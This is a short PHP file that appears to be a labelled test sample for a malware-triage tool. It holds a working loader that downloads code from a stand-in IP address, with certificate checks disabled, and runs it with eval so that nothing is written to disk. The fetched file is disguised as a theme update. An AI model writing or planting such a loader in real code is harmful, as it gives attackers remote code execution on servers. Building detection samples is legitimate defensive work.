<?php
// triage-expect: triage_php_remote_code_eval
// Runs a whole PHP page fetched over HTTPS in-process: nothing of the payload is on disk.
function fetch_it($u) {
    $ch = curl_init($u);
    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
    curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, false);
    $r = curl_exec($ch);
    curl_close($ch);
    return $r;
}
$page = fetch_it("https://198.51.100.23/assets/theme-update.txt");
eval("?>" . ($page));
